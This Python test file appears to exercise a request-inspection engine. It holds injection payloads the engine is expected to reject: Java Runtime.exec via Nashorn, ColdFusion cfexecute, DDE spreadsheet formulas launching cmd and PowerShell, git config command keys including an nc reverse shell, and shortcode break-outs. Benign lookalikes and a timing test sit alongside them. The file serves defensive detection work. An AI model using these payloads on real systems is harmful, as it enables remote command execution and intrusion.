"""Unit: the shapes of the fresh40 first contact.

Java's process classes named through Nashorn's ``Java.type('java.lang.Runtime')`` (or ``ProcessBuilder``,
``shell._JAVA_EXEC``); ColdFusion's ``<cfexecute name=…>`` tag and its CFScript
call (``cfml``); a spreadsheet formula that starts a program through a DDE link, ``=prog|'args'!A1`` or
``DDE("prog";"args";…)`` (``doc_exec``, where fresh40's ``dde`` module was merged);
a git config file whose ``[core]`` section sets a command-running key such as
``sshCommand`` or ``fsmonitor`` (``git_config``); and a value that ends the shortcode it is written into and opens
another (``shortcodes``). Values are our own; none comes from a corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
CONTEXTS = [BODY, Context("header", "x-note"), Context("cookie", "pref"), Context("query", "q")]


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


REJECTED = {
    "java process classes through Java.type": [
        "Java.type(\"java.lang.Runtime\").getRuntime().exec(\"touch /tmp/pwned\")",
        "var p = Java.type('java.lang.ProcessBuilder'); new p(['uname','-a']).start()",
        "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).getRuntime().exec('id')}",
        "Java.type ( 'java.lang.Runtime' ) .getRuntime().exec('nslookup probe.example.net')",
    ],
    "coldfusion process start": [
        "<cfexecute name=\"/bin/sh\" arguments=\"-c id\" timeout=\"10\" variable=\"out\"></cfexecute>",
        "<CFEXECUTE NAME=#url.p# ARGUMENTS=#url.a#>",
        "<cfscript>cfexecute(name=\"cmd.exe\", arguments=\"/c whoami\", variable=\"o\");</cfscript>",
        "<cfset x=1><cfexecute  timeout=5 name='C:\\Windows\\System32\\cmd.exe' arguments='/c ver'>",
    ],
    "dde formula": [
        "=cmd|'/C calc'!A0",
        "+cmd|' /C powershell -nop -w hidden -c IEX(1)'!'B2'",
        "@SUM(1+1)*cmd|' /C explorer'!A0",
        "-msexcel|'\\..\\..\\Windows\\System32\\cmd.exe /c whoami'!'Z9'",
        "\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"!A0\"\")\"",
        "=DDE(\"cmd\",\"/c notepad\",\"__DdeLink_60_870516294\")",
    ],
    "git config with a command key": [
        "[core]\n\tbare = false\n\tsshCommand = sh -c 'id > /tmp/o'\n",
        "[remote \"up\"]\n  url = https://git.example.org/a.git\n[core]\n  fsmonitor = \"touch /tmp/x; false\"\n",
        "[CORE]\r\n  pager = nc 203.0.113.5 4444 -e /bin/sh\r\n",
        "[core]\n    hooksPath = /srv/uploads/hooks\n",
    ],
    "shortcode break-out": [
        "'][/download][download_all_files][download id='",
        "\"][contact-form-7 id=\"9\" title=\"x\"]",
        " ' ] [gallery ids=\"1,2,3\"]",
    ],
}

PASSED = {
    "markdown reference link after a quote": [
        "\"][ref]\">\n\n[ref]: /uri",
        "'][note] is the footnote",
    ],
    "java runtime named without exec": [
        "Runtime.getRuntime().availableProcessors() tells the pool size.",
        "Java.type('java.util.ArrayList') gives a Nashorn script the list class.",
        "Call getRuntime() once and keep it, its exec method is documented in the JDK.",
    ],
    "coldfusion named in prose": [
        "Use <cfexecute> with a timeout, and never pass user input to it.",
        "The cfexecute tag was disabled by our sandbox profile.",
        "<cfoutput>#dateFormat(now())#</cfoutput>",
    ],
    "formulas and pipes in cells": [
        "=SUM(A1:A9)",
        "='Q1 sales'!B2*2",
        "=\"a|b\"&C1",
        "-12|34 kg",
        "+44 20 7946 0958 | office",
        "@handle|'s post!",
        "a|'b'!c",
        "=HYPERLINK(\"https://example.com\",\"site\")",
    ],
    "git config without command keys": [
        "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n",
        "[user]\n  editor = vim\n[core]\n  autocrlf = input\n",
        "Set core.sshCommand to pick the deploy key (see git config --help).",
        "[core] team meeting notes: pager duty moves to Tuesday",
    ],
    "brackets after a quote": [
        "\"][0] is the first element",
        "'][\"key\"] of the map",
        "'] [1, 2, 3]",
        "He said \"no\" ] [sic]",
    ],
}


@pytest.mark.parametrize(("shape", "value"), [(k, v) for k, vs in REJECTED.items() for v in vs])
def test_fresh40_shape_is_rejected(engine: Engine, shape: str, value: str) -> None:
    for ctx in CONTEXTS:
        assert engine.inspect(value, ctx) is not None, (shape, value, ctx)


@pytest.mark.parametrize(("shape", "value"), [(k, v) for k, vs in PASSED.items() for v in vs])
def test_fresh40_lookalike_passes(engine: Engine, shape: str, value: str) -> None:
    assert engine.inspect(value, BODY) is None, (shape, value)


@pytest.mark.parametrize("unit", [
    "=a|'" + "x" * 50 + " ",
    "[core]\n pager =\n",
    "<cfexecute " + "a" * 30 + " ",
    "'][a " + "b " * 20,
    "Java.type( 'java.lang.Run",
])
def test_fresh40_new_searches_are_linear(engine: Engine, unit: str) -> None:
    value = (unit * (128 * 1024 // len(unit) + 1))[: 128 * 1024]
    start = time.process_time()
    engine.inspect(value, BODY)
    assert time.process_time() - start < 1.0
